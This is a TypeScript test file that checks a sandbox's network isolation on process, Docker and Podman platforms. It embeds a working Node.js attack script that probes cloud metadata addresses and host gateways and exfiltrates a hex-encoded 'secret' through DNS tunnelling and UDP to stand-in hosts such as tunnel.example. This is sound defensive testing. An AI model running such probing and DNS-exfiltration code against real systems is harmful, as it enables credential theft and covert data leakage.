import { describe } from 'vitest'
import { attackedPlatforms } from '../src/attacks/attacked-platforms.ts'
import type { Weakness } from '../src/attacks/build.ts'
import { openCaptive } from '../src/attacks/captive.ts'
import { describeAttack } from '../src/attacks/describe-attack.ts'
import { ONLY_PROXY } from '../src/attacks/only-proxy.ts'
import { openWorld, WORLD_CONTAINER, WORLD_PATH } from '../src/attacks/open-world.ts'
import { type PlatformKind, usePlatform } from '../src/platform.ts'

const SIDECAR = 'packages/runtimes/src/engine/sidecar.ts'
const IN_CONTAINER: readonly Weakness[] = [
  { file: SIDECAR, find: "NetworkMode: 'none',", replace: `NetworkMode: 'container:${WORLD_CONTAINER}',` },
  // Only with a network of its own.
  { file: SIDECAR, find: "body: { Hostname: 'sandbox' },", replace: 'body: {},' },
  ONLY_PROXY,
]

/** Puts the workload into a network where every address answers, instead of its own. */
const INTO_THE_WORLD: Record<PlatformKind, readonly Weakness[]> = {
  process: [
    {
      file: 'packages/runtimes/src/process/process-network.ts',
      find: "[program, '-N', '-k',",
      replace: `['/usr/bin/nsenter', ${JSON.stringify(`--net=${WORLD_PATH}`)}, program, '-k',`,
    },
    ONLY_PROXY,
  ],
  docker: IN_CONTAINER,
  podman: IN_CONTAINER,
}

/** What is tried, and what arrives when it succeeds. */
const CONNECTIONS = {
  'the metadata address of clouds': '169.254.169.254',
  'the metadata address by IPv6': 'fd00:ec2::254',
  'the metadata address as IPv4 in IPv6': '::ffff:169.254.170.2',
  'the gateway of a bridge': '172.17.0.1',
  'the gateway of a rootless engine': '10.0.2.2',
  'the host of a virtual machine': '192.168.65.254',
  'any host': '192.0.2.1',
  'any host by IPv6': '2001:db8::1',
}
const SAYINGS = {
  'a name by UDP to a resolver': 'name 736563726574.udp.tunnel.example',
  'a name by UDP over IPv6': 'name 736563726574.udp6.tunnel.example',
  'a name by TCP to a resolver': 'name 736563726574.tcp.tunnel.example',
  'a name by the resolver of the system': 'name 736563726574.system.tunnel.example',
  'a word by UDP to the port of QUIC': 'word secret',
}

/**
 * Does everything at once. A refused connection fails at once; the two seconds are for those that wait for an answer.
 */
const ATTACK = `
const dgram = require('node:dgram'), dns = require('node:dns'), net = require('node:net')
const question = (name) => Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]),
  ...name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])), Buffer.from([0, 0, 16, 0, 1])])
const settled = (begin) => new Promise((done) => { begin(done); setTimeout(done, 2000) })
const send = (type, message, port, host) => settled((done) => dgram.createSocket(type).on('error', done).send(message, port, host, done))
const data = '736563726574'
Promise.all([
  ...JSON.parse(process.argv[1]).map((host) => settled((done) => net.connect(80, host).on('connect', done).on('error', done))),
  send('udp4', question(data + '.udp.tunnel.example'), 53, '192.0.2.53'),
  send('udp6', question(data + '.udp6.tunnel.example'), 53, '2001:db8::53'),
  send('udp4', 'secret', 443, '192.0.2.1'),
  settled((done) => dns.lookup(data + '.system.tunnel.example', done)),
  settled((done) => { const asked = question(data + '.tcp.tunnel.example')
    net.connect(53, '192.0.2.53', function () { this.end(Buffer.concat([Buffer.from([0, asked.length]), asked])) }).on('close', done).on('error', done) }),
]).then(() => { console.log('done'); process.exit() })`

describe.each(attackedPlatforms('addresses'))('on %s', (kind) => {
  const platform = usePlatform(kind)

  describeAttack('metadata services, gateways, IPv6 and questions for names', {
    defence: 'the network of its own',
    weaknesses: INTO_THE_WORLD[kind],
    attack: async (build, context) => {
      const here = platform(context)
      await using world = await openWorld(here, context)
      const profile = { network: { outbound: { allow_host: ['api.example'] } } }
      await using captive = await openCaptive(build, here, { permission_profile: profile })
      const hosts = JSON.stringify(Object.values(CONNECTIONS))
      const said = (await captive.run('node', '-e', ATTACK, hosts)).trim()
      if (said !== 'done') throw new Error(`the attacker said ${said}`)
      const seen = world.seen()
      return {
        ...mapValues(CONNECTIONS, (host) => seen.includes(`tcp ${host.replace('::ffff:', '')}`)),
        ...mapValues(SAYINGS, (line) => seen.includes(line)),
      }
    },
  })
})

function mapValues(tries: Readonly<Record<string, string>>, isGained: (value: string) => boolean) {
  return Object.fromEntries(Object.entries(tries).map(([name, value]) => [name, isGained(value)]))
}
